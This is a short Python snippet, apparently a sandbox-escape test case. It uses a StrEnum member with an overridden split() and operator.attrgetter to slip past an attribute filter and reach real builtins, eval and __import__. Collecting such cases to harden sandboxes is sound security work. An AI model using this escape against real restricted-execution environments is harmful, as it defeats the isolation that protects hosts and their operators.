# technique: operator.attrgetter of a str subclass whose own split() lies (a StrEnum member made with the functional API, its class given a split): the sink checks the parts split() returns, the C attrgetter walks the real characters '__init__.__globals__' on exit -> _sitebuiltins' globals -> real builtins
# configs: default, common
# With nothing allowed `import operator` is refused.
import enum
import operator
u = '_' * 2
E = enum.StrEnum('E', {'A': u + 'init' + u + '.' + u + 'globals' + u,
                       'split': lambda self, sep=None: ['harmless']})
g = operator.attrgetter(E.A)(exit)
b = g[u + 'builtins' + u]
return [{'json': {'escaped': [b['eval']('6 * 7'), b[u + 'import' + u]('os').getpid()]}}]
